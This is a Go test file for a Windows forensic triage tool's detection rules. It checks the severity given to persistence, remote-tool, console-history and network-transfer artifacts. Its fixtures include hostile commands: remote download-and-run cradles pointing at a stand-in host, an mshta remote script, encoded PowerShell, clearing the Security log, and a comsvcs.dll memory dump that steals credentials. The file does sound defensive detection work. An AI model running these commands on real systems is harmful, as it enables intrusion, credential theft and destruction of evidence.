package findings_test

import (
	"fmt"
	"testing"

	"github.com/artifactdump/artifactdump/artifacts"
	"github.com/artifactdump/artifactdump/artifacts/activity"
	"github.com/artifactdump/artifactdump/artifacts/communication"
	"github.com/artifactdump/artifactdump/artifacts/execution"
	"github.com/artifactdump/artifactdump/artifacts/findings"
	"github.com/artifactdump/artifactdump/artifacts/persistence"
	"github.com/artifactdump/artifactdump/artifacts/system"
)

// TestProfilesOfOthers: P-18 knows the programs of Windows by their home, not by
// a name in the command.
func TestProfilesOfOthers(t *testing.T) {
	starts := func(scope, image, command string) records {
		return records{rec("runkeys", fill(persistence.RunKey{Name: "v", List: "Run"}, persistence.Entry{Mechanism: "Run", Scope: scope, Command: command, Image: image}))}
	}
	checkLevels(t, "P-18", []verdict{
		{"OneDrive of Windows 10", silent, starts("new users", `C:\Windows\SysWOW64\OneDriveSetup.exe`, `C:\Windows\SysWOW64\OneDriveSetup.exe /thfirstsetup`)},
		{"the sidebar of Windows 7", silent, starts("service account", `C:\Program Files\Windows Sidebar\Sidebar.exe`, `"C:\Program Files\Windows Sidebar\Sidebar.exe" /autoRun`)},
		{"a name without its folder", silent, starts("service account", `ctfmon.exe`, `ctfmon.exe`)},
		{"its name elsewhere", findings.High, starts("new users", `C:\Users\Public\OneDriveSetup.exe`, `C:\Users\Public\OneDriveSetup.exe`)},
		{"its name as an argument", findings.High, starts("new users", prompt, `cmd.exe /c start x & ctfmon.exe`)},
		{"any other program", findings.High, starts("service account", `C:\Program Files\A\a.exe`, `a.exe`)},
		{"of a user", silent, starts("user", `C:\Program Files\A\a.exe`, `a.exe`)},
		{"deleted", findings.Medium, records{deleted(starts("new users", `C:\Program Files\A\a.exe`, `a.exe`)[0])}},
	})
}

// TestSubscriptions: P-16. Without a binding nothing starts a consumer, and some
// kinds of it run nothing.
func TestSubscriptions(t *testing.T) {
	consumer := func(class string, more func(*persistence.WMI)) records {
		w := fill(persistence.WMI{Kind: "consumer", Class: class, Name: "x"}, auto("WMI consumer", `C:\Program Files\A\a.exe`, ""))
		if more != nil {
			more(&w)
		}
		return records{rec("wmi", w)}
	}
	checkLevels(t, "P-16", []verdict{
		{"bound", findings.High, consumer("CommandLineEventConsumer", func(w *persistence.WMI) { w.Bound = true })},
		{"not bound", findings.Medium, consumer("CommandLineEventConsumer", nil)},
		{"not bound, made by the system", findings.Medium, consumer("CommandLineEventConsumer", func(w *persistence.WMI) { w.CreatorSID = "S-1-5-18" })},
		{"not bound, made by a user", findings.High, consumer("CommandLineEventConsumer", func(w *persistence.WMI) { w.CreatorSID = "S-1-5-21-1-2-3-1001" })},
		{"a script that downloads", findings.Critical, consumer("ActiveScriptEventConsumer", func(w *persistence.WMI) {
			w.Script = `CreateObject("WScript.Shell").Run "powershell (New-Object Net.WebClient).DownloadString('http://192.0.2.1/a')"`
		})},
		{"one that writes to a log", silent, consumer("NTEventLogEventConsumer", func(w *persistence.WMI) { w.Bound = true })},
		{"that of Windows", silent, consumer("CommandLineEventConsumer", func(w *persistence.WMI) { w.Default, w.Bound = true, true })},
		{"a filter", silent, records{rec("wmi", persistence.WMI{Kind: "filter", Class: "__EventFilter", Name: "x"})}},
	})
}

// TestWhatTheScannerSaw: S-01 to S-03.
func TestWhatTheScannerSaw(t *testing.T) {
	renamed := func(path, original string) records {
		return records{rec("defenderlog", system.DefenderLogEntry{Kind: "original name", Path: path, Original: original})}
	}
	checkLevels(t, "S-03", []verdict{
		{"a tool", findings.High, renamed(`C:\ProgramData\x.exe`, "rclone.exe")},
		{"PsExec, by the name of its source", findings.High, renamed(`C:\ProgramData\x.exe`, "psexec.c")},
		{"a host of Windows", findings.High, renamed(`C:\ProgramData\x.exe`, "PowerShell.EXE")},
		{"a tool under its name", silent, renamed(`C:\Tools\rclone.exe`, "rclone.exe")},
		{"a tool that many have", silent, renamed(`C:\ProgramData\x.exe`, "teamviewer.exe")},
		{"a product", silent, renamed(`C:\ProgramData\x.exe`, "product.exe")},
	})
	checkLevels(t, "M-05", []verdict{
		{"PsExec, by the name of its source", findings.High, records{amcache(`C:\Program Files\x\notes.exe`, "psexec.c")}},
		{"PsExec under its name", silent, records{amcache(`C:\Program Files\x\PsExec.exe`, "psexec.c")}},
		{"PsExec of 64 bits", silent, records{amcache(`C:\Program Files\x\PsExec64.exe`, "psexec.c")}},
	})
	found := rec("defenderdetections", system.DefenderDetection{Threat: "T", Path: `C:\Data\a\b.exe`})
	excluded := func(list, name string) artifacts.Record {
		return rec("defender", system.Defender{Kind: "exclusion", List: list, Name: name})
	}
	checkLevels(t, "S-02", []verdict{
		{"below the folder", findings.High, records{found, excluded("Paths", `C:\Data`)}},
		{"below the folder, with a star", findings.High, records{found, excluded("Paths", `C:\Data\*`)}},
		{"the file itself", findings.High, records{found, excluded("Paths", `C:\Data\a\b.exe`)}},
		{"a folder whose name begins so", silent, records{found, excluded("Paths", `C:\Dat`)}},
		{"its extension, which F-02 judges", silent, records{found, excluded("Extensions", `exe`)}},
	})
}

// TestRemoteTools: S-04 is one finding for each tool, with its sessions.
func TestRemoteTools(t *testing.T) {
	tool := func(kind, path string) artifacts.Record {
		return rec("remotetools", communication.RemoteTool{Tool: "AnyDesk", Kind: kind, Path: path, Time: day})
	}
	checkLevels(t, "S-04", []verdict{
		{"installed", findings.Low, records{tool("installed", `"C:\Program Files (x86)\AnyDesk\AnyDesk.exe" --service`)}},
		{"in an odd place", findings.High, records{tool("installed", `C:\Users\Public\AnyDesk.exe --service`)}},
		{"in an odd place, but deleted", findings.Low, records{deleted(tool("installed", `C:\Users\Public\AnyDesk.exe --service`))}},
		{"used", findings.Low, records{tool("session", ""), tool("session", "")}},
	})
	two := records{tool("session", ""), tool("session", ""), tool("installed", `C:\Users\Public\AnyDesk.exe`)}
	checkSays(t, "S-04", two, "AnyDesk left traces", "its service starts from C:\\Users\\Public\\AnyDesk.exe", "2 sessions")
	if f := find(judge(two, nil), "remote tool AnyDesk"); f == nil || f.Count != 3 {
		t.Errorf("of three records the finding is %+v", f)
	}
}

// TestConsoles: S-05 and S-06. To fetch a file is what people do every day; to run
// what was fetched is not.
func TestConsoles(t *testing.T) {
	typed := func(s string) records { return records{of("u", rec("pshistory", execution.PSCommand{Command: s}))} }
	checkLevels(t, "S-05", []verdict{
		{"fetched and run", findings.High, typed(`iex (iwr http://192.0.2.1/a.ps1)`)},
		{"an encoded command", findings.High, typed(`powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcA`)},
		{"logs cleared", findings.High, typed(`wevtutil cl Security`)},
		{"credentials", findings.High, typed(`rundll32 comsvcs.dll, MiniDump 612 C:\a.dmp full`)},
		{"fetched", silent, typed(`Invoke-WebRequest https://heron.example/a.zip -OutFile a.zip`)},
		{"a share", silent, typed(`copy \\srv\tools\a.exe .`)},
		{"logs read", silent, typed(`wevtutil qe Security /c:5`)},
		{"everyday", silent, typed(`Get-ChildItem -Recurse`)},
		{"in a transcript", findings.High, records{of("u", rec("pstranscripts", execution.PSTranscript{Inputs: []string{"dir", `iex (iwr http://192.0.2.1/a.ps1)`}}))}},
	})
	link := func(place, target, args string) records {
		return records{of("u", rec("shortcuts", activity.Shortcut{Name: "a.lnk", Place: place, LinkFields: activity.LinkFields{Target: target, Arguments: args}}))}
	}
	checkLevels(t, "S-06", []verdict{
		{"a page that is a program", findings.High, link("desktop", `C:\Windows\System32\mshta.exe`, `http://192.0.2.1/a.hta`)},
		{"an encoded command", findings.Critical, link("desktop", powershell, `-enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcA`)},
		{"a prompt", silent, link("desktop", prompt, "/k")},
		{"in the menu, where installers put them", silent, link("start menu", `C:\Windows\System32\mshta.exe`, `http://192.0.2.1/a.hta`)},
		{"a browser with an address", silent, link("desktop", `C:\Program Files\Browser\b.exe`, `http://192.0.2.1/`)},
	})
}

// TestPoliciesAndKeys: S-07 and S-08.
func TestPoliciesAndKeys(t *testing.T) {
	checkLevels(t, "S-07", []verdict{
		{"a task", findings.Medium, records{rec("grouppolicy", persistence.GroupPolicy{Kind: "immediate task", Name: "x", Entry: auto("GPO", `C:\Program Files\A\a.exe`, "")})}},
		{"a task that downloads", findings.High, records{rec("grouppolicy", persistence.GroupPolicy{Kind: "immediate task", Name: "x", Entry: auto("GPO", powershell, `-c "iex (iwr http://192.0.2.1/a)"`)})}},
		{"a password", findings.Medium, records{rec("grouppolicy", persistence.GroupPolicy{Kind: "user", Name: "x", Password: true})}},
		{"a drive", silent, records{rec("grouppolicy", persistence.GroupPolicy{Kind: "drive", Name: "R:"})}},
	})
	key := func(kind string, admins bool) records {
		return records{of("u", rec("openssh", communication.OpenSSH{Kind: kind, Fingerprint: "SHA256:a", Admins: admins}))}
	}
	checkLevels(t, "S-08", []verdict{
		{"as one user", findings.Low, key("authorised key", false)},
		{"as every administrator", findings.Medium, key("authorised key", true)},
		{"a server that was met", silent, key("known host", false)},
	})
	checkSays(t, "S-08", key("authorised key", false), "it may log on as u")
}

// TestTransfers: C-02 and C-03.
func TestTransfers(t *testing.T) {
	sent := func(path string, mib, received int64) artifacts.Record {
		n := communication.SRUMNetwork{Sent: mib << 20, Received: received << 20}
		n.Kind, n.Path, n.Time = "program", path, day
		return rec("srumnetwork", n)
	}
	opened := func(path string) artifacts.Record {
		return of("u", rec("userassist", execution.UserAssist{Kind: "program", Path: path, Runs: 1, LastRun: day}))
	}
	checkLevels(t, "C-02", []verdict{
		{"from an odd place", findings.High, records{sent(`C:\PerfLogs\a.exe`, 100, 1)}},
		{"from an odd place, opened by a user", findings.Medium, records{sent(`C:\PerfLogs\a.exe`, 100, 1), opened(`C:\PerfLogs\a.exe`)}},
		{"from a user's files", findings.Medium, records{sent(`C:\Users\u\Downloads\a.exe`, 100, 1)}},
		{"from a user's files, opened", silent, records{sent(`C:\Users\u\Downloads\a.exe`, 100, 1), opened(`C:\Users\u\Downloads\a.exe`)}},
		{"from a profile", findings.Low, records{sent(`C:\Users\u\AppData\Local\Programs\A\a.exe`, 100, 1)}},
		{"by an installed program", silent, records{sent(`C:\Program Files\Backup\a.exe`, 100, 1)}},
		{"less than 50 MiB", silent, records{sent(`C:\PerfLogs\a.exe`, 49, 0)}},
		{"as much as it received", silent, records{sent(`C:\PerfLogs\a.exe`, 100, 30)}},
		{"in several periods", findings.High, records{sent(`C:\PerfLogs\a.exe`, 30, 0), sent(`C:\PerfLogs\a.exe`, 30, 0)}},
	})
	job := func(url, local, command, sid string) records {
		return records{rec("bits", communication.BITSJob{Name: "j", SID: sid, Command: command, Files: []communication.BITSFile{{URL: url, Local: local}}})}
	}
	user := "S-1-5-21-1-2-3-1001"
	checkLevels(t, "C-03", []verdict{
		{"a command", findings.High, job("https://vendor.example/a.cab", `C:\ProgramData\A\a.cab`, `C:\Windows\System32\cmd.exe`, user)},
		{"a program from an address", findings.Medium, job("http://93.184.216.34/a.exe", `C:\ProgramData\A\a.exe`, "", user)},
		{"a program from an unusual port", findings.Medium, job("http://vendor.example:8081/a.exe", `C:\ProgramData\A\a.exe`, "", user)},
		{"a program to an odd place", findings.Low, job("https://vendor.example/a.exe", `C:\PerfLogs\a.exe`, "", user)},
		{"a program to an odd place, by the system", silent, job("https://vendor.example/a.exe", `C:\PerfLogs\a.exe`, "", "S-1-5-18")},
		{"a program within the network", silent, job("http://10.0.0.8/a.exe", `C:\ProgramData\A\a.exe`, "", user)},
		{"a document from an address", silent, job("http://93.184.216.34/a.txt", `C:\ProgramData\A\a.txt`, "", user)},
	})
	checkSays(t, "C-02", records{sent(`C:\PerfLogs\a.exe`, 100, 1)}, fmt.Sprintf("it sent %d MB and received %d MB", 100, 1), "nobody opened it")
}
